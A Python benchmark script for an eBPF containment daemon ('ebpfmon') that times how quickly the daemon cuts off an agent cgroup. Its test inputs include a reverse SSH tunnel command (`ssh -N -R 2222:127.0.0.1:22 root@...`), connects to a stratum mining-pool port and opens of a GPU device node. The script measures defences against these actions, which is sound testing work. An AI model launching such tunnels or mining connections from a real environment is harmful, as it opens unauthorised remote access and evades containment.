"""Time to containment. Run by hand, as root:

    .venv/bin/python bench/containment.py [--trials 100]     # writes bench/RESULTS-containment.md

Each trial starts a real `ssh -N -R 2222:127.0.0.1:22 root@198.51.100.2` in a
fresh agent cgroup, against a real sshd in a network namespace, with ebpfmon's
daemon running. Measured: from the kernel's timestamp of the ssh exec to the
moment the cut is in the kernel map; whether ssh's connect was refused or got
through before the cut; whether the reverse port ever opened on the far side
(the tunnel carried something). Then 100 pool connects and 100 GPU opens from
an agent not entitled to GPUs: how many got through.
"""

from __future__ import annotations

import argparse
import datetime as dt
import os
import platform
import shutil
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parent
sys.path.insert(0, str(REPO))
sys.path.insert(0, str(REPO / "tests"))

from ebpfmon.host.cgroups import Hierarchy  # noqa: E402
from ebpfmon.config import AlertSettings, Config, EnforceSettings, MetricsSettings  # noqa: E402
from ebpfmon.service.daemon import Daemon  # noqa: E402
from ebpfmon.kernel.enforcer import remove_pins  # noqa: E402
from servers import internet  # noqa: E402

SSH_OPTS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
            "-o", "ConnectTimeout=3", "-o", "ExitOnForwardFailure=yes"]
PROBE = "import socket,sys\ns=socket.socket()\ns.settimeout(2)\nprint(s.connect_ex(('127.0.0.1', 2222)))"


def in_cgroup(path: Path):
    return lambda: (path / "cgroup.procs").write_text(str(os.getpid()))


def pct(values, p):
    values = sorted(values)
    return values[min(len(values) - 1, int(len(values) * p))]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--trials", type=int, default=100)
    parser.add_argument("--out", type=Path, default=HERE / "RESULTS-containment.md")
    args = parser.parse_args()
    hierarchy = Hierarchy()
    root = f"/ebpfmon-bench-{os.getpid()}"
    hierarchy.ensure(root)
    work = Path(tempfile.mkdtemp())
    fake = work / "nvidia0"
    os.mknod(fake, 0o666 | 0o020000, os.makedev(195, 0))
    host = internet.create(f"ebpfmon-bench-{os.getpid()}")
    sshd, key = internet.start_sshd(host, work)
    pool = host.popen([sys.executable, str(REPO / "tests/servers/stratum_pool.py"), host.address, "3333"],
                      stdout=subprocess.PIPE, text=True)
    pool.stdout.readline()
    accepted = []
    threading.Thread(target=lambda: [accepted.append(l) for l in pool.stdout], daemon=True).start()
    config = Config(agent_root=root, gpu_entitled=(f"{root}/gpu-*",), state_dir=str(work / "state"),
                    enforce=EnforceSettings(rate_limit=10 ** 6), alerts=AlertSettings(sinks=()),
                    metrics=MetricsSettings(enabled=False))
    daemon = Daemon(config)
    cut_at: dict[int, int] = {}
    daemon.start()
    original_cut = daemon.enforcer.cut

    def timed_cut(agent_id: int, since_ns: int) -> None:
        original_cut(agent_id, since_ns)
        cut_at[agent_id] = time.time_ns()

    daemon.enforcer.cut = timed_cut
    stop = threading.Event()
    thread = threading.Thread(target=daemon.run, args=(stop,), daemon=True)
    thread.start()
    latencies, refused, tunnels = [], 0, 0
    try:
        for trial in range(args.trials):
            agent = hierarchy.ensure(f"{root}/agent-{trial}")
            agent_id = hierarchy.cgroup_id(f"{root}/agent-{trial}")
            ssh = subprocess.run(["ssh", "-i", str(key), *SSH_OPTS, "-N", "-R", "2222:127.0.0.1:22",
                                  f"root@{host.address}"], preexec_fn=in_cgroup(agent), capture_output=True,
                                 text=True, timeout=30)
            if "Operation not permitted" in ssh.stderr:
                refused += 1
            deadline = time.monotonic() + 5
            while time.monotonic() < deadline:  # the record is written right after the cut
                record = daemon.containment.store.active_for(f"{root}/agent-{trial}")
                if agent_id in cut_at and record:
                    break
                time.sleep(0.01)
            if agent_id in cut_at and record and record.event:
                latencies.append((cut_at[agent_id] - record.event["time_ns"]) / 1e6)

            probe = host.popen([sys.executable, "-c", PROBE], stdout=subprocess.PIPE, text=True)
            if probe.communicate(timeout=10)[0].strip() == "0":
                tunnels += 1
            daemon.containment.release(f"{root}/agent-{trial}", "bench", "next trial")
            subprocess.run(["pkill", "-KILL", "-f", f"root@{host.address}"], capture_output=True)
            os.rmdir(agent)
        # pool connects and GPU opens from an agent not entitled to GPUs
        agent = hierarchy.ensure(f"{root}/blocked")
        before = len(accepted)
        client = ("import socket,os,sys\nok=0\nfor i in range(100):\n    s=socket.socket()\n"
                  "    ok += s.connect_ex((sys.argv[1], 3333)) == 0\n    s.close()\ng=0\nfor i in range(100):\n"
                  "    try:\n        os.close(os.open(sys.argv[2], os.O_RDWR)); g += 1\n    except OSError as e:\n"
                  "        g += e.errno != 1\nprint(ok, g)")
        out = subprocess.run([sys.executable, "-c", client, host.address, str(fake)], preexec_fn=in_cgroup(agent),
                             capture_output=True, text=True).stdout.split()
        time.sleep(0.5)
        pool_ok, gpu_ok, pool_seen = int(out[0]), int(out[1]), len(accepted) - before
        os.rmdir(agent)
    finally:
        stop.set()
        thread.join(timeout=10)
        daemon.enforcer.detach()
        daemon.close()
        sshd.kill()
        pool.kill()
        internet.remove(host)
        remove_pins(hierarchy, root)
        os.rmdir(hierarchy.path(root))
        shutil.rmtree(work, ignore_errors=True)
    text = f"""# Containment benchmark

- date: {dt.datetime.now(dt.timezone.utc):%Y-%m-%d %H:%M} UTC
- machine: {platform.node()}, Linux {platform.release()}, {os.cpu_count()} CPUs (VM)

## Reverse SSH tunnel, {args.trials} trials

A real `ssh -N -R 2222:127.0.0.1:22` from a fresh agent cgroup to a real sshd
in a network namespace, ebpfmon's daemon running (shipped rules).

| measure | value |
|---|---|
| trials cut | {len(latencies)} of {args.trials} |
| exec -> cut in force, p50 | {statistics.median(latencies):.2f} ms |
| exec -> cut in force, p99 | {pct(latencies, 0.99):.2f} ms |
| exec -> cut in force, max | {max(latencies):.2f} ms |
| ssh's connect refused by the cut (it never reached sshd) | {refused} of {args.trials} |
| tunnels that opened their reverse port (carried anything) | {tunnels} of {args.trials} |

## Refused synchronously

| | got through |
|---|---|
| 100 connects to the pool port 3333 from an agent | {pool_ok} (the pool saw {pool_seen}) |
| 100 opens of a GPU node (c 195 0) by an agent not entitled | {gpu_ok} |
"""
    args.out.write_text(text)
    print(text)


if __name__ == "__main__":
    main()
